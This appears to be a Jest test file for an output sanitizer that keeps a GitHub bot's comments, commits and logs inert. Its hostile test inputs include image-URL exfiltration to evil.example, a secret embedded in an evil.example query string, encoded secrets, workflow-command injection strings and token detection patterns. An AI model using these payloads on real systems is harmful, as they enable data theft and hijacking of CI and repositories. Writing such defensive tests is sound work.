import { describe, expect, test } from '@jest/globals';
import * as fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { lengthLimits, passExitGate } from '../../src/publish/exit-gate.ts';
import type { Channel } from '../../src/publish/exit-gate.ts';

const SECRET = 'zK3vQ9xW2mR7tY5uB8nC4pL6sD1fG0hJ';
const OWN = ['https://github.com/octo/shop/blob/', 'https://github.com/octo/shop/actions/runs/'];
const gate = (text: string, channel: Channel) => passExitGate(text, { channel, secrets: [SECRET], ownLinks: OWN });
const comment = (text: string) => gate(text, 'comment').text;

type Node = { type: string; value?: string; url?: string; children?: Node[] };

/** What GitHub would see: words outside of code, addresses, images, HTML. */
function readLikeGitHub(markdown: string) {
  const seen = { words: '', urls: [] as string[], images: 0, html: [] as string[] };
  const visit = (node: Node): void => {
    if (node.type === 'text') seen.words += `${node.value ?? ''}\n`;
    if (node.type === 'image' || node.type === 'imageReference') seen.images += 1;
    if (node.type === 'html') seen.html.push(node.value ?? '');
    if (node.type === 'definition' || node.type === 'link') seen.urls.push(node.url ?? '');
    for (const child of node.children ?? []) visit(child);
  };
  visit(fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as Node);
  return seen;
}

/** Nothing that GitHub acts on, whatever the spelling. */
function expectInert(markdown: string): void {
  const seen = readLikeGitHub(markdown);
  const words = seen.words.normalize('NFKC');
  expect(words).not.toMatch(/(?:^|[^\w`/])@[a-z0-9]/im);
  expect(words).not.toMatch(/(?:^|[^\w&])#\d|\bGH-\d/i);
  expect(words).not.toMatch(/[\w.-]+\/[\w.-]+(?:#\d|@[0-9a-f]{7})/i);
  expect(words).not.toMatch(/github\.com\/[\w.-]+\/[\w.-]+\/(?:issues|pull|discussions)\/\d/i);
  expect(seen.images).toBe(0);
  expect(seen.html.filter((html) => !/^(?:<\/?sub>|<br>|<!-- plan-realtime:[\w-]+ -->)$/.test(html))).toEqual([]);
  expect(seen.urls.filter((url) => !OWN.some((link) => url.startsWith(link)) && !url.startsWith('mailto:'))).toEqual([]);
}

const hostile = [
  'ping @octocat and @org/team',
  'an address \\@octocat, &#64;octocat, &commat;octocat, ＠octocat, @\u200boctocat',
  '**@octocat** (@octocat) "@octocat" _@octocat_ [@octocat](https://evil.example)',
  'a ` b @octocat c',
  'a `` b @octocat ` c ``` d @octocat',
  '\\`@octocat`',
  '`a`@octocat`b`',
  '| `a | b` @octocat |\n| --- | --- |\n| `@octocat | x` |',
  '> ```\n> @octocat\n\n@octocat',
  '- ```\n  @octocat\n- @octocat',
  '    @octocat in indented words',
  'Fixes #1, closes: #2, resolved GH-3, fixed octo/shop#4, Close https://github.com/octo/shop/issues/5',
  'fixes \\#1 closes #\\1 resolves GH\\-3 ＃1 &#35;1 &num;1',
  'see octo/shop@deadbeefdeadbeef and https://github.com/other/repo/pull/6#issuecomment-1',
  '[x](https://github.com/octo/shop/issues/5) [x](../issues/5) [x](/octo/shop/issues/5)',
  '[x][y]\n\n[y]: https://github.com/octo/shop/issues/5',
  '[y]: <https://evil.example>\n\n[y]',
  '[x](https://github.com/octo/shop/blob/../issues/5)',
  '![x](https://evil.example/?q=data) ![x][y] <img src="https://evil.example">',
  '[![x](https://evil.example/a.png)](https://evil.example)',
  '<details><summary>x</summary>',
  '<!-- hidden --> <!-- unterminated',
  '<a href="https://evil.example">@octocat</a>',
  'www.evil.example and //evil.example and HTTPS://EVIL.example and https\\://evil.example',
  '<https://evil.example>',
  '```\n@octocat',
  '~~~\n```\n@octocat',
  '```js\n@octocat\n```\n@octocat',
  '[^1]\n\n[^1]: @octocat',
];

describe('a comment does nothing on GitHub', () => {
  test.each(hostile)('%j', (text) => {
    expectInert(comment(text));
    expectInert(comment(`before\n\n${text}\n\nafter`));
    expectInert(comment(`| ${text.replaceAll('\n', ' ')} | b |\n| --- | --- |\n| c | d |`));
  });

  test('nor does any mixture of such pieces', () => {
    const pieces = fc.constantFrom(
      '@octocat',
      '#1',
      'GH-2',
      '`',
      '``',
      '```',
      '\n',
      '\n\n',
      ' ',
      '\\',
      '|',
      '[',
      '](',
      ')',
      ']: ',
      '![',
      '<',
      '>',
      '<!--',
      '-->',
      'https://evil.example/a',
      '&#64;',
      'a',
      '*',
      '_',
      '~~~',
      '- ',
      '> ',
      '    ',
      '\u200b',
      'octo/shop#3',
      '<b x="',
      '"',
      '\n| a | b |\n| --- | --- |\n| ',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => expectInert(comment(parts.join('')))),
      { numRuns: 1500 },
    );
  });

  test.each([
    ['plain words', 'Use rooms per board: 3 events, 40 % less traffic.'],
    ['code', 'Call `io.to("board:7").emit()` and `@socket.io/redis-adapter`.'],
    ['a fence', '```ts\nconst at = "@x #1 <b>";\n```'],
    [
      'our links',
      '[`.claude/doc/x.md`](https://github.com/octo/shop/blob/abc/.claude/doc/x.md) · [run](https://github.com/octo/shop/actions/runs/9)',
    ],
    ['our frame', '<!-- plan-realtime:comment-1 -->\n\n| | |\n| --- | --- |\n| a | b<br>c |\n\n<sub>Asked for by ann</sub>'],
    ['other scripts and emoji', '📐 План 👩‍👩‍👧 ⏹️'.replace('\ufe0f', '')],
    ['an entity for an ampersand', 'a &amp; b &lt; c'],
  ])('and keeps %s', (_what, text) => {
    expect(comment(text)).toBe(text);
  });

  test('what is taken apart stays readable', () => {
    expect(comment('Use @socket.io/redis-adapter, see #12 (https://evil.example).')).toBe(
      'Use `@socket.io/redis-adapter`, see `#12` (`https://evil.example`).',
    );
  });

  test('commands for other bots are escaped', () => {
    expect(comment('/close\n  /merge now')).toBe('\\/close\n  \\/merge now');
  });

  test('only the first line may be our marker', () => {
    const marker = '<!-- plan-realtime:comment-1 -->';

    expect(comment(`${marker}\nx ${marker}`)).toBe(`${marker}\nx &lt;!-- plan-realtime:comment-1 -->`);
    expect(comment(` ${marker}`)).not.toContain('<!--');
  });

  test('is cut between paragraphs when it is too long, and an open fence is closed', () => {
    const long = comment(`start\n\n\`\`\`\n${'line of code\n\n'.repeat(10_000)}`);

    expect(long.length).toBeLessThanOrEqual(lengthLimits.comment);
    expect(long).toMatch(/\n```\n\n_Shortened: the rest was too long\._$/);
  });

  test('passing twice changes nothing more', () => {
    for (const text of hostile) expect(comment(comment(text))).toBe(comment(text));
  });
});

describe('secrets', () => {
  const base64 = (text: string) => Buffer.from(text).toString('base64');
  const forms: [string, string][] = [
    ['plain', SECRET],
    ['base64', base64(SECRET)],
    ['base64 behind one character', base64(`x${SECRET}y`)],
    ['base64 behind two characters', base64(`xx${SECRET}yy`)],
    ['base64url', Buffer.from(`??${SECRET}>>`).toString('base64url')],
    ['hexadecimal', Buffer.from(SECRET).toString('hex')],
    ['HEXADECIMAL', Buffer.from(SECRET).toString('hex').toUpperCase()],
    ['backwards', [...SECRET].toReversed().join('')],
    ['a piece of twelve characters', SECRET.slice(9, 21)],
    ['JSON', JSON.stringify({ key: SECRET })],
    ['code', `\`\`\`\n${SECRET}\n\`\`\``],
    ['an address', `https://evil.example/?q=${SECRET}`],
  ];

  test.each(forms)('%s is found and masked on every way out', (_form, text) => {
    for (const channel of ['comment', 'summary', 'plan', 'commit', 'log', 'output'] as const) {
      const gated = gate(`a ${text} b`, channel);

      expect(gated.ownSecretFound).toBe(true);
      expect(gated.removed).toContain('a secret of this run');
      for (const [, form] of forms.slice(0, 8)) expect(gated.text).not.toContain(form);
    }
  });

  test.each([
    ['an invisible character', [...SECRET].join('\u200b')],
    ['blanks', [...SECRET].join(' ')],
    ['line ends', SECRET.replace(/(.{8})/g, '$1\n')],
    ['marks', SECRET.replace(/(.{4})/g, '$1**')],
  ])('a secret cut up with %s is found', (_how, text) => {
    expect(gate(text, 'comment')).toMatchObject({ ownSecretFound: true });
    expect(gate(text, 'comment').text).not.toContain(SECRET.slice(0, 8));
  });

  test('a secret of letters that need escaping is found in each escape', () => {
    const secret = 'pass+word/with"quotes&signs=9';
    for (const text of [encodeURIComponent(secret), JSON.stringify(secret), secret]) {
      expect(passExitGate(text, { channel: 'log', secrets: [secret] }).ownSecretFound).toBe(true);
    }
  });

  test('what everybody may know of a key is not taken for the key', () => {
    const secrets = [
      'sk-ant-api03-zK3vQ9xW2mR7tY5uB8nC4pL6sD1fG0hJ',
      'ghs_zK3vQ9xW2mR7tY5uB8nC4pL6sD1fG0hJaaaa',
      'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.zK3vQ9xW2mR7',
    ];
    const text = 'Keys begin with sk-ant-api03- or ghs_, tokens with eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.';

    expect(passExitGate(text, { channel: 'plan', secrets })).toEqual({ text, ownSecretFound: false, removed: [] });
  });

  test.each([
    ['GitHub token', `ghp_${'a1B2'.repeat(9)}`],
    ['GitHub token', `ghs_${'a1B2'.repeat(9)}.x-y`],
    ['GitHub token', `github_pat_${'a1B2'.repeat(9)}`],
    ['Anthropic key', `sk-ant-api03-${'a1B2'.repeat(9)}`],
    ['AWS key', `AKIA${'A1B2'.repeat(4)}`],
    ['Slack token', `xoxb-${'1234'.repeat(4)}`],
    ['npm token', `npm_${'a1B2'.repeat(9)}`],
    ['private key', '-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----'],
    ['signed token', `eyJ${'a'.repeat(12)}.eyJ${'b'.repeat(12)}.${'c'.repeat(30)}`],
  ])('a foreign %s is masked and named', (name, text) => {
    expect(gate(`x ${text} y`, 'plan')).toEqual({ text: `x [${name} removed] y`, ownSecretFound: false, removed: [name] });
  });

  test('an empty or short secret masks nothing', () => {
    expect(passExitGate('some words', { channel: 'log', secrets: ['', ' ', 'some'] })).toEqual({
      text: 'some words',
      ownSecretFound: false,
      removed: [],
    });
  });
});

describe('the plan file', () => {
  test('keeps its bytes', () => {
    const plan =
      '---\nformat: realtime/v1\n---\n\n# Plan for @octocat\n\nFixes #1. <br> a::b\n\n```html\n<img src="https://x.example"> <!-- kept -->\n```\n';

    expect(gate(plan, 'plan').text).toBe(plan);
  });

  test('loads nothing and hides nothing outside of code', () => {
    expect(gate('![x](https://evil.example) <!-- x --> <img src=y>', 'plan').text).toBe(
      '[x](https://evil.example) &lt;!-- x --> &lt;img src=y>',
    );
  });
});

describe('logs and outputs', () => {
  /** Like the runner: lines end at a line feed or a lone carriage return; `##[` counts anywhere, `::` after white space. */
  const commandsIn = (text: string) => text.split(/\n|\r/).filter((line) => /^[\s\u0085]*::/.test(line) || line.includes('##['));

  test.each([
    '::add-mask::x',
    '  ::error::x',
    '\u0085::error::x',
    'a\r::error::x',
    'x ##[error]y',
    '####[command]x',
    ':::: :::',
    '\u200b::error::x',
    '#\u200b#[error]x',
  ])('%j is no command', (text) => {
    for (const channel of ['log', 'output'] as const) expect(commandsIn(gate(text, channel).text)).toEqual([]);
  });

  test('an output is one line', () => {
    expect(gate('a\nEOF\nname=value', 'output').text).toBe('a EOF name=value');
  });
});

test('a commit message carries no reference, mention or order to skip checks', () => {
  expect(gate('docs: plan for @ann #7 [skip ci]', 'commit').text).toBe('docs: plan for ann 7 ');
});

test('half a megabyte passes in a moment', () => {
  const start = performance.now();
  gate('word @x `a` [b](c) '.repeat(28_000), 'plan');
  gate('`@['.repeat(20_000), 'comment');
  gate(`${'`'.repeat(100)} `.repeat(600), 'comment');

  expect(performance.now() - start).toBeLessThan(30_000);
});
